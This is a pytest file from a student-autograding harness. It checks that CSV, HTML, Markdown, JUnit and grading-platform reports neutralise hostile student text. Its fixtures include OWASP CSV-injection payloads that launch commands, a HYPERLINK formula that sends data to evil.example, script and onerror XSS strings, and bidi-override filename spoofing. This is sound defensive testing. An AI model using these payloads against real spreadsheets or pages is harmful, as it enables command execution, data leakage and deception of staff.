"""Reports opened by staff obey no student text: CSV cells are never formulas (OWASP's CSV
injection), student text is escaped in the HTML and Markdown reports, and no bidi, zero-width or
other format character of a subject's text reaches any report (terminal, HTML, CSV, JUnit,
Gradescope, PrairieLearn) unescaped."""

import csv
import io
import json
import shutil
import subprocess
import sys
import unicodedata
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from harness.analysis import summarize
from harness.isolation.worker import printable
from harness.outcomes import Outcome
from harness.records import Cell, Grade, SuiteRun, TestResult
from harness.reports import class_report
from harness.reports import grade as grade_report
from harness.reports import grades as tables
from harness.reports import matrix as reports
from harness.reports.gradescope import gradescope
from harness.reports.prairielearn import prairielearn
from harness.reports.safe import FORMULA_START, csv_cell, markdown_cell, to_csv
from harness.shared_tests.laws import BY_NAME
from harness.subjects import Kind, Subject

ROOT = Path(__file__).resolve().parents[3]
OWASP = ("=", "+", "-", "@", "\t", "\r")
# OWASP's example payload, as a submission's file name
FORMULA_NAME = "=1+1+cmd|' -c calc'!A0.py"
HOSTILE = [
    FORMULA_NAME,
    "+cmd|' /C notepad'!'A1'",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\uff1d1+1",
    'a",=1+1,"b',
    "line one\n=1+1",
]


def starts_a_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


@pytest.mark.parametrize("text", HOSTILE[:8])
def test_a_text_cell_that_begins_with_a_formula_character_is_neutralised(text):
    safe = csv_cell(text)
    assert safe.startswith("'") and not starts_a_formula(safe)
    if text[0] not in "\r":  # a carriage return is shown as \x0d, as in every report
        assert safe == "'" + text


@pytest.mark.parametrize("value", ["alice.py", "score 3", "", "a-b", "x=1"])
def test_other_text_is_kept_as_written(value):
    assert csv_cell(value) == value


def test_every_owasp_character_is_covered():
    assert set(OWASP) <= set(FORMULA_START)


def test_numbers_stay_numbers_and_text_is_neutralised_read_back_by_csv_and_pandas():
    table = pd.DataFrame(
        {
            "name": HOSTILE,
            "score": [-1.5, -2.0, 0.0, 3.25, -7.0, 1.0, 2.0, 3.0, 4.0, 5.0],
            "count": [-3, 1, 2, 3, 4, 5, 6, 7, 8, 9],
            "passed": [True, False] * 5,
        }
    )
    text = to_csv(table)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "score", "count", "passed"]
    assert len(rows) == 1 + len(HOSTILE)  # a comma, a quote or a newline starts no cell or row
    for row, name in zip(rows[1:], HOSTILE, strict=True):
        assert not starts_a_formula(row[0])
        shown = name.replace("\r", "\\x0d")  # still the name, after the quote if it needs one
        assert row[0] == ("'" + shown if starts_a_formula(name) else shown)
    assert [r[1] for r in rows[1:3]] == ["-1.5", "-2.0"]  # the project's numbers as written
    back = pd.read_csv(io.StringIO(text))
    assert back["score"].tolist() == table["score"].tolist()
    assert back["count"].tolist() == table["count"].tolist()
    assert back["passed"].tolist() == table["passed"].tolist()
    assert not any(starts_a_formula(v) for v in back["name"])
    # every text field is quoted in the file itself; numbers are not
    first = text.splitlines()[1]
    assert first.startswith("\"'=1+1") and first.endswith(",-1.5,-3,True")


def test_every_csv_writer_of_the_project_goes_through_the_one_function():
    # grade-batch, summarize and the matrix: no DataFrame.to_csv of their own
    for path in ("harness/jobs/grade.py", "harness/jobs/matrix.py", "harness/reports/grades.py"):
        source = (ROOT / path).read_text()
        assert ".to_csv(" not in source, path
        assert "to_csv(" in source, path
    writers = [
        p.relative_to(ROOT).as_posix()
        for p in (ROOT / "harness").rglob("*.py")
        if ".to_csv(" in p.read_text() or "csv.writer" in p.read_text()
    ]
    assert writers == ["harness/reports/safe.py"]


@pytest.mark.slow
def test_a_formula_named_submission_lands_in_grades_csv_as_text(tmp_path):
    # the real grade-batch, in the real sandbox, on OWASP's payload as a file name (a copy of the
    # correct example) and a rejected one named like a formula too
    subs, out = tmp_path / "subs", tmp_path / "grades"
    subs.mkdir()
    shutil.copy(ROOT / "examples" / "correct_submission.py", subs / FORMULA_NAME)
    (subs / "@SUM(1+1)*cmd.py").write_text("import impl.transformer\n")
    argv = ["grade-batch", str(subs), "--out", str(out), "--tests", "test_hand_example_noam"]
    done = subprocess.run(
        [sys.executable, "-m", "harness", *argv, "--jobs", "2"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    assert done.returncode == 1, done.stderr  # one rejected
    for name in ("grades.csv", "hardest_tests.csv"):
        text = (out / name).read_text()
        for row in csv.reader(io.StringIO(text)):
            assert not any(starts_a_formula(cell) for cell in row), (name, row)
        frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
        cells = [str(c) for c in frame.columns] + [str(v) for v in frame.to_numpy().ravel()]
        assert not any(starts_a_formula(c) for c in cells), (name, cells)
    grades = pd.read_csv(out / "grades.csv")
    by_name = dict(zip(grades["submission"], grades["score"], strict=True))
    assert by_name == {"'" + FORMULA_NAME: 5.0, "'@SUM(1+1)*cmd.py": 0.0}  # recognisable
    assert grades["score"].dtype == float and grades["passed"].dtype == bool
    assert FORMULA_NAME in done.stdout  # the terminal shows the name as it is


# --- HTML and Markdown --------------------------------------------------------------------------

SCRIPT = '</td></tr><script>alert("x")</script><img src=x onerror=alert(1)>'
STUDENT = "eve<b>|`x`|[a](http://evil.example)\"'&amp;\\|\nnext | row"


def hostile_run() -> SuiteRun:
    """A matrix whose subject is named like an attack and whose messages are attacks."""
    noam = BY_NAME["test_hand_example_noam"]
    odd = replace(BY_NAME["test_hand_example_label_smoothing"], name="t|`x`[y](z)<i>")
    subjects = [
        Subject("impl", Kind.CORRECT, module="impl.transformer"),
        Subject(STUDENT, Kind.SUBMISSION, path="eve.py"),
        Subject("s08", Kind.MUTANT, module="impl.transformer", mutant="s08"),
    ]
    cells = {}
    for t in (noam, odd):
        cells[(t.name, "impl")] = Cell(Outcome.KILLED, SCRIPT)  # a false alarm, with its message
        cells[(t.name, STUDENT)] = Cell(Outcome.ERROR, STUDENT + SCRIPT)
        cells[(t.name, "s08")] = Cell(Outcome.KILLED, "fine")
    return SuiteRun([noam, odd], subjects, cells)


class Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.titles, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.titles += [v for k, v in attrs if k == "title"]
        assert not any(k.startswith("on") for k, _ in attrs), attrs

    def handle_data(self, data):
        self.text.append(data)


def test_student_text_in_the_html_report_is_text():
    run = hostile_run()
    page = reports.html_page(run, summarize(run))
    parser = Collect()
    parser.feed(page)
    assert "script" not in parser.tags and "img" not in parser.tags and "b" not in parser.tags
    assert parser.tags.count("td") == 2 * 3 + 2  # the grid's cells and the kills, no more
    assert SCRIPT in parser.titles  # the message is shown whole, as text, on hover
    assert any(STUDENT.split("\n")[0] in t for t in parser.text)  # the name, as text


def table_rows(text: str) -> list[list[str]]:
    """A GFM table's rows split on its unescaped pipes."""
    rows = []
    for line in text.splitlines():
        if line.startswith("|"):
            cells, cell, i = [], "", 1
            while i < len(line):
                if line[i] == "\\":
                    cell += line[i : i + 2]
                    i += 2
                    continue
                if line[i] == "|":
                    cells.append(cell.strip())
                    cell = ""
                else:
                    cell += line[i]
                i += 1
            rows.append(cells)
    return rows


def unescaped(cell: str, char: str) -> bool:
    return any(c == char and (i == 0 or cell[i - 1] != "\\") for i, c in enumerate(cell))


def test_student_text_in_the_matrix_markdown_stays_in_its_cell():
    run = hostile_run()
    text = reports.markdown(run, summarize(run))
    rows = table_rows(text)
    assert len(rows) == 2 + 2 and {len(r) for r in rows} == {1 + 3 + 1}  # no cell split
    assert rows[0][2] == markdown_cell(STUDENT)
    for cell in [c for r in rows for c in r]:
        assert "<" not in cell.replace("<br>", "") and ">" not in cell.replace("<br>", "")
        assert not any(unescaped(cell, ch) for ch in "`[]")


@pytest.mark.parametrize(
    "text, want",
    [
        ("a|b", "a\\|b"),
        ("`code`", "\\`code\\`"),
        ("[x](http://e)", "\\[x\\](http://e)"),
        ("<script>", "&lt;script&gt;"),
        ("one\ntwo\r\nthree", "one<br>two<br>three"),
        ("back\\|slash", "back\\\\\\|slash"),  # the student's backslash cannot undo ours
        ("&lt;", "&amp;lt;"),
        ("plain_name", "plain_name"),
    ],
)
def test_markdown_cell_escapes(text, want):
    assert markdown_cell(text) == want


def test_the_batch_markdown_escapes_file_names_and_messages():
    eve = tables.Graded(
        STUDENT, 0.0, 5.0, False, [tables.TestLine("t", False, "error")], rejected=SCRIPT
    )
    ok = tables.Graded("bob.py", 5.0, 5.0, True, [tables.TestLine("t", True, "passed")])
    text = tables.markdown([eve, ok])
    rows = table_rows(text)
    # the grades (six columns: status and reason among them), then the hardest tests (five):
    # head, rule, rows; eve, rejected, is not in the second
    assert [len(r) for r in rows] == [6] * 4 + [5] * 3
    assert "<script" not in text and "<img" not in text and "<b>" not in text
    assert markdown_cell(STUDENT) in text


# --- invisible characters: bidi controls, zero-width ones, separators ----------------------------

# U+202E (right-to-left override) makes "eve\u202egnp.py" read as "eveyp.png"; U+2066 (left-to-right
# isolate) and U+200B (zero-width space) are as invisible. Each is shown as its \uXXXX everywhere.
RLO, LRI, ZWSP = "\u202e", "\u2066", "\u200b"
BIDI_NAME = f"eve{RLO}gnp{LRI}x{ZWSP}.py"
BIDI_MESSAGE = f"expected 1.0{RLO}, got 2.0{LRI} at{ZWSP} encoder.0"
BIDI_TEST = f"test_mine{RLO}_reversed"  # a test name, as a student's suite could name one
SHOWN = ("\\u202e", "\\u2066", "\\u200b")


def invisible(text: str) -> list[str]:
    """The format characters (Cf) and line/paragraph separators left in `text`."""
    return [c for c in text if unicodedata.category(c) in ("Cf", "Zl", "Zp")]


def every_string(value) -> list[str]:
    """Every key and string value of decoded JSON, however deep."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*every_string(k), *every_string(v))]
    if isinstance(value, list):
        return [s for v in value for s in every_string(v)]
    return []


def shown_escaped(text: str) -> None:
    assert not invisible(text), invisible(text)
    assert all(s in text for s in SHOWN), text


def bidi_grade(rejected: str = "") -> Grade:
    """A grade of a submission named with bidi and zero-width characters, whose failed tests'
    messages (and one test's name) carry them too."""
    noam, said = BY_NAME["test_hand_example_noam"], rejected or BIDI_MESSAGE
    tests = [
        TestResult(noam.name, noam.law, Outcome.KILLED, 0.0, 5.0, said, 0.1),
        TestResult(BIDI_TEST, noam.law, Outcome.ERROR, 0.0, 5.0, said, 0.1),
    ]
    return Grade(f"/class/{BIDI_NAME}", tests, rejected)


ALL_CF = "".join(chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf")


def test_printable_shows_every_format_character_and_separator_as_its_code():
    assert printable(BIDI_NAME) == "eve\\u202egnp\\u2066x\\u200b.py"
    for char in "\u200e\u200f\u061c\u2069\u2060\ufeff\u2028\u2029\u00ad":
        assert printable(f"a{char}b") == f"a\\u{ord(char):04x}b"
    assert printable("tag\U000e0041") == "tag\\U000e0041"  # above U+FFFF: eight digits
    assert not invisible(printable(ALL_CF)) and len(ALL_CF) > 150
    # controls keep their \xNN; ordinary text of any script is kept as written
    assert printable("a\x07b\x1b[31mc") == "a\\x07bc"
    for text in ("Zoë Ñúñez", "学生.py", "שלום.py", "مرحبا", "naïve café"):
        assert printable(text) == text


@pytest.mark.parametrize("text", [BIDI_NAME, BIDI_MESSAGE, ALL_CF, "a\x00\u202e\x1b[0mb", "\\u"])
def test_printable_never_escapes_twice(text):
    once = printable(text)
    assert printable(once) == once  # what it returns holds nothing it escapes: idempotent


def test_the_terminal_shows_invisible_characters_escaped():
    g = bidi_grade()
    shown_escaped(grade_report.text(g))  # xfmr grade's summary
    rejected = grade_report.text(bidi_grade(rejected=f"rejected: {BIDI_MESSAGE}"))
    shown_escaped(rejected)
    rows = [tables.Graded.of(g), tables.Graded.of(bidi_grade(rejected=BIDI_MESSAGE))]
    table = tables.summary_text(rows)  # grade-batch's and summarize's table
    assert not invisible(table) and "eve\\u202egnp" in table and "\\u2066" in table


def test_the_html_reports_show_invisible_characters_escaped(tmp_path):
    g = bidi_grade()
    rows = [tables.Graded.of(g, str(tmp_path / "eve.json"), str(tmp_path / "eve.html"))]
    rows.append(tables.Graded.of(bidi_grade(rejected=BIDI_MESSAGE)))
    rows.append(tables.Graded.not_graded(f"notes{RLO}fdp.py", "a .pdf file"))
    page = class_report.html_report(rows, tmp_path)
    shown_escaped(page)
    assert "notes\\u202efdp.py" in page
    own = class_report.student_page(rows[0], tmp_path, tmp_path / "report.html", None)
    shown_escaped(own)
    run = hostile_run()
    run.cells[("test_hand_example_noam", STUDENT)] = Cell(Outcome.ERROR, BIDI_MESSAGE)
    shown_escaped(reports.html_page(run, summarize(run)))  # the matrix's page


def test_the_csv_and_markdown_reports_show_invisible_characters_escaped():
    rows = [tables.Graded.of(bidi_grade()), tables.Graded.of(bidi_grade(rejected=BIDI_MESSAGE))]
    text = to_csv(tables.batch_table(rows))  # grades.csv
    shown_escaped(text)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "eve\\u202egnp\\u2066x\\u200b.py" in cells and BIDI_MESSAGE not in cells
    assert not invisible(to_csv(tables.hardest(rows)))  # hardest_tests.csv
    assert not invisible(tables.markdown(rows))


def test_junit_shows_invisible_characters_escaped():
    xml = grade_report.junit(bidi_grade())
    assert not invisible(xml)
    suite = ET.fromstring(xml.split("\n", 1)[1]).find("testsuite")
    assert suite.get("name") == "xfmr grade eve\\u202egnp\\u2066x\\u200b.py"
    names = [case.get("name") for case in suite.findall("testcase")]
    assert names[1] == "test_mine\\u202e_reversed"
    failure = suite.find("testcase/failure")
    shown_escaped(failure.get("message"))
    shown_escaped(failure.text)


def test_gradescope_shows_invisible_characters_escaped():
    for g in (bidi_grade(), bidi_grade(rejected=f"rejected: {BIDI_MESSAGE}")):
        decoded = json.loads(json.dumps(gradescope(g)))  # what Gradescope shows, decoded
        strings = every_string(decoded)
        assert not any(invisible(s) for s in strings), strings
        assert all(any(shown in s for s in strings) for shown in SHOWN)


def test_prairielearn_shows_invisible_characters_escaped():
    for g in (bidi_grade(), bidi_grade(rejected=f"rejected: {BIDI_MESSAGE}")):
        decoded = json.loads(json.dumps(prairielearn(g)))
        strings = every_string(decoded)
        assert not any(invisible(s) for s in strings), strings
        assert all(any(shown in s for s in strings) for shown in SHOWN)
    graded = prairielearn(bidi_grade())
    assert [t["name"] for t in graded["tests"]][1] == "test_mine\\u202e_reversed"
    assert graded["tests"][0]["message"] == printable(BIDI_MESSAGE)
